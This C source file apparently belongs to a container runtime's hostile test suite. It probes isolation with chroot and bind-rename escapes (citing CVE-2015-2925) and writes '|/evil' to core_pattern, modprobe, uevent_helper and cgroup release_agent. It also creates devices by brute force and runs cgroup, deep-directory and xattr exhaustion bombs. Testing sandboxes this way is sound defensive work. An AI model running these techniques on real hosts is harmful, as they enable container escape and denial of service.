/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacks on what a container sees: mounts, roots, devices, control groups, files of the kernel. */
#include "tests/evil/evil.h"

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/xattr.h>
#include <unistd.h>

/* A root is the host's if these are in it. */
static bool host_here(void)
{
	return access("vz/private", F_OK) == 0 || access("etc/vz/vz.conf", F_OK) == 0 ||
	       access("usr/sbin/vzctl", F_OK) == 0;
}

static void verdict(const char *name)
{
	errno = EXDEV; /* shown when nothing of the host is there */
	say(name, host_here() ? 0 : -1, NULL);
}

int evil_chroot(int argc, char **argv)
{
	int here = open(".", O_RDONLY | O_DIRECTORY);

	(void)argc;
	(void)argv;
	mkdir("/jail", 0755);
	if (chroot("/jail") == 0 && fchdir(here) == 0)
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
	verdict("chroot_fchdir");
	/* bind a deep directory, move it out of the bind while standing in it (CVE-2015-2925) */
	if (chroot(".") == 0) {
		mkdir("/b", 0755);
		mkdir("/b/in", 0755);
		mkdir("/b/in/deep", 0755);
		mkdir("/b/at", 0755);
		mount("/b/in", "/b/at", NULL, MS_BIND, NULL);
		if (chdir("/b/at/deep") == 0 && rename("/b/in/deep", "/b/deep") == 0)
			for (int i = 0; i < 64; i++)
				if (chdir("..") < 0)
					break;
		verdict("bind_rename");
		umount2("/b/at", MNT_DETACH);
	}
	unshare(CLONE_NEWNS);
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	for (int i = 0; i < 64; i++)
		if (umount2("/", MNT_DETACH) < 0)
			break;
	if (chdir("/") == 0)
		verdict("umount_root");
	if (chdir("/proc/1/root") == 0)
		verdict("proc_1_root");
	if (chdir("/proc/1/cwd") == 0)
		verdict("proc_1_cwd");
	return 0;
}

/* In a mount namespace of its own: takes off everything, several times over, and lists what then lies at the places. */
int evil_strip(int argc, char **argv)
{
	char line[4096], at[PATH_MAX];
	int turns = 0, off = 1;

	(void)argc;
	(void)argv;
	unshare(CLONE_NEWNS);
	while (off && turns++ < 20) {
		FILE *f = fopen("/proc/self/mountinfo", "re");

		off = 0;
		if (!f)
			break;
		while (fgets(line, sizeof(line), f))
			if (sscanf(line, "%*s %*s %*s %*s %4095s", at) == 1 && strcmp(at, "/") &&
			    strcmp(at, "/proc") && umount2(at, MNT_DETACH) == 0)
				off++;
		fclose(f);
	}
	printf("turns %d\n", turns);
	if (chdir("/") == 0)
		verdict("stripped");
	{
		static const char *const at_dirs[] = { "/dev", "/sys", "/run", "/proc/sys/net/..", "/tmp" };

		for (size_t i = 0; i < ARRAY_SIZE(at_dirs); i++)
			if (chdir(at_dirs[i]) == 0)
				verdict(at_dirs[i]);
	}
	umount2("/proc", MNT_DETACH);
	mount("proc", "/proc", "proc", 0, NULL);
	return evil_writable(2, (char *[]){ (char *)"writable", (char *)"/proc", NULL });
}

static bool skipped(const char *path)
{
	static const char *const own[] = { "/proc/self", "/proc/thread-self", "/proc/sys/net",
					   "/sys/fs/cgroup" };

	if (strncmp(path, "/proc/", 6) == 0 && path[6] >= '0' && path[6] <= '9')
		return true;
	for (size_t i = 0; i < ARRAY_SIZE(own); i++)
		if (strncmp(path, own[i], strlen(own[i])) == 0)
			return true;
	return false;
}

static void walk(const char *dir, int depth)
{
	char path[PATH_MAX];
	struct dirent *d;
	struct stat st;
	DIR *at = depth < 12 ? opendir(dir) : NULL;

	while (at && (d = readdir(at))) {
		int fd;

		if (d->d_name[0] == '.' || snprintf(path, sizeof(path), "%s/%s", dir, d->d_name) >= PATH_MAX ||
		    lstat(path, &st) < 0 || skipped(path))
			continue;
		if (S_ISDIR(st.st_mode))
			walk(path, depth + 1);
		if (!S_ISREG(st.st_mode))
			continue;
		fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0) {
			printf("W %s\n", path);
			close(fd);
		}
	}
	if (at)
		closedir(at);
}

int evil_writable(int argc, char **argv)
{
	static const char *const masked[] = { "/proc/kcore", "/proc/kmsg", "/proc/timer_list",
		"/proc/slabinfo", "/proc/kpagecount", "/proc/kpageflags", "/proc/sched_debug",
		"/proc/sysrq-trigger", "/proc/kallsyms" };
	char b[256];

	walk(argc > 1 ? argv[1] : "/proc", 0);
	for (size_t i = 0; i < ARRAY_SIZE(masked); i++) {
		int fd = open(masked[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof(b));

		if (n > 0 && strncmp(b, "0000000000000000", 16) != 0)
			printf("R %s\n", masked[i]);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

int evil_remount(int argc, char **argv)
{
	static const char *const denied[] = { "debugfs", "tracefs", "securityfs", "configfs", "pstore",
		"efivarfs", "selinuxfs", "smackfs", "devtmpfs", "rpc_pipefs", "nfsd", "bpf", "hugetlbfs",
		"functionfs", "ext4", "btrfs", "xfs", "vfat", "iso9660", "nfs", "9p", "cifs", "autofs",
		"resctrl", "ecryptfs", "zonefs", "erofs", "squashfs", "fuseblk" };

	(void)argc;
	(void)argv;
	unshare(CLONE_NEWNS);
	mkdir("/tmp/m", 0755);
	for (size_t i = 0; i < ARRAY_SIZE(denied); i++) {
		TRY(denied[i], mount("none", "/tmp/m", denied[i], 0, NULL));
		umount2("/tmp/m", MNT_DETACH);
	}
	TRY("proc_rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
	TRY("panic", put_text("/proc/sys/kernel/panic", "1"));
	TRY("sys_rw", mount("none", "/tmp/m", "sysfs", 0, NULL));
	TRY("ksm", put_text("/tmp/m/kernel/mm/ksm/run", "1"));
	TRY("uevent_helper", put_text("/tmp/m/kernel/uevent_helper", "/evil"));
	TRY("uevent", put_text("/tmp/m/class/mem/null/uevent", "add"));
	umount2("/tmp/m", MNT_DETACH);
	TRY("trusted_xattr", setxattr("/tmp", "trusted.overlay.opaque", "y", 1, 0));
	TRY("security_ima", setxattr("/tmp", "security.ima", "y", 1, 0));
	TRY("core_pattern", put_text("/proc/sys/kernel/core_pattern", "|/evil"));
	TRY("modprobe", put_text("/proc/sys/kernel/modprobe", "/evil"));
	TRY("binfmt_host", put_text("/proc/sys/fs/binfmt_misc/register", ":e:M::e::/e:"));
	return 0;
}

int evil_mknod(int argc, char **argv)
{
	int made = 0, tried = 0;

	(void)argc;
	(void)argv;
	for (unsigned type = 0; type < 2; type++)
		for (unsigned ma = 0; ma < 512; ma++)
			for (unsigned mi = 0; mi < 256; mi++) {
				mode_t mode = (type ? S_IFBLK : S_IFCHR) | 0600;

				if (!type && !ma && !mi)
					continue; /* a whiteout: plain data to overlayfs */
				tried++;
				if (mknod("/tmp/node", mode, makedev(ma, mi)) < 0)
					continue;
				made++;
				unlink("/tmp/node");
			}
	printf("%d of %d\n", made, tried);
	return 0;
}

static void cgroup_files(void)
{
	static const struct {
		const char *file, *text;
	} t[] = {
		{ "memory.max", "max" }, { "memory.high", "max" }, { "pids.max", "max" },
		{ "cpu.max", "max" }, { "cpu.weight", "10000" }, { "cgroup.freeze", "1" },
		{ "cgroup.kill", "1" }, { "cgroup.max.descendants", "max" }, { "cgroup.max.depth", "max" },
		{ "io.max", "254:0 rbps=max" }, { "memory.oom.group", "0" }, { "cpuset.cpus", "0-1" },
	};
	char path[128];

	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
		snprintf(path, sizeof(path), "/sys/fs/cgroup/%s", t[i].file);
		TRY(t[i].file, put_text(path, t[i].text));
		snprintf(path, sizeof(path), "/sys/fs/cgroup/../%s", t[i].file);
		if (access(path, F_OK) == 0)
			TRY("above", put_text(path, t[i].text));
	}
}

static void cgroup_v1(void)
{
	static const char *const ctl[] = { "memory", "devices", "pids", "cpu", "cpuacct", "cpuset",
		"freezer", "blkio", "name=systemd", "none,name=evil", "all", "rdma", "misc" };
	static const char *const files[] = { "release_agent", "devices.allow", "memory.limit_in_bytes",
		"pids.max", "cpu.shares", "cpuset.cpus", "notify_on_release", "freezer.state", "tasks",
		"cgroup.procs", "cgroup.clone_children" };
	char name[64], path[128];

	mkdir("/tmp/cg", 0755);
	for (size_t i = 0; i < ARRAY_SIZE(ctl); i++) {
		snprintf(name, sizeof(name), "v1:%s", ctl[i]);
		if (mount("none", "/tmp/cg", "cgroup", 0, ctl[i]) < 0)
			continue;
		for (size_t k = 0; k < ARRAY_SIZE(files); k++) {
			snprintf(path, sizeof(path), "/tmp/cg/%s", files[k]);
			if (access(path, F_OK) == 0) {
				snprintf(name, sizeof(name), "v1:%s:%s", ctl[i], files[k]);
				TRY(name, put_text(path, k == 0 ? "/evil" : "1"));
			}
		}
		snprintf(name, sizeof(name), "v1:%s:mkdir", ctl[i]);
		TRY(name, mkdir("/tmp/cg/evil", 0755));
		rmdir("/tmp/cg/evil");
		umount2("/tmp/cg", MNT_DETACH);
	}
}

int evil_cgroup(int argc, char **argv)
{
	char path[64], n[16];
	int made = 0, last = 0;

	(void)argc;
	(void)argv;
	cgroup_files();
	TRY("move_up", put_text("/sys/fs/cgroup/../cgroup.procs", "0"));
	for (int i = 0; i < 10000; i++, made++) {
		snprintf(path, sizeof(path), "/sys/fs/cgroup/e%d", i);
		if (mkdir(path, 0755) == 0)
			continue;
		last = errno;
		break;
	}
	snprintf(n, sizeof(n), "%d", made);
	errno = last;
	say("groups_10000", last ? -1 : 0, n);
	for (int i = 0; i < made; i++) {
		snprintf(path, sizeof(path), "/sys/fs/cgroup/e%d", i);
		rmdir(path);
	}
	unshare(CLONE_NEWNS);
	cgroup_v1();
	return 0;
}

/* Mounts a FUSE file system on a directory and answers nothing, not even the first request. */
int evil_fuse(int argc, char **argv)
{
	char opt[96];
	int fd = open("/dev/fuse", O_RDWR);

	if (argc < 3 || fd < 0) {
		say("fuse", -1, NULL);
		return 1;
	}
	snprintf(opt, sizeof(opt), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
	TRY("fuse", mount("evil", argv[1], "fuse", 0, opt));
	sleep((unsigned)strtoul(argv[2], NULL, 10));
	return 0;
}

/* Directories in directories, deeper than any path can name. */
int evil_deep(int argc, char **argv)
{
	int n = argc > 2 ? (int)strtol(argv[2], NULL, 10) : 10000, made = 0;
	int at = open(argc > 1 ? argv[1] : "/tmp", O_RDONLY | O_DIRECTORY);

	while (made < n && mkdirat(at, "d", 0700) == 0) {
		int next = openat(at, "d", O_RDONLY | O_DIRECTORY);

		close(at);
		at = next;
		made++;
	}
	printf("%d\n", made);
	return 0;
}

/* Files that have nothing but attributes, until that is refused: KiB of them. */
int evil_xattrs(int argc, char **argv)
{
	static char value[3500];
	char name[256];
	int n = 0;

	memset(value, 'x', sizeof(value));
	for (; n < 60000; n++) {
		int fd;

		snprintf(name, sizeof(name), "%s/x%d", argc > 1 ? argv[1] : "/tmp", n);
		fd = open(name, O_CREAT | O_RDWR, 0600);
		if (fd < 0 || fsetxattr(fd, "user.bomb", value, sizeof(value), 0) < 0 || (n % 256 == 0 && fsync(fd) < 0))
			break;
		close(fd);
	}
	printf("%d\n", (int)(n * sizeof(value) / 1024));
	return 0;
}
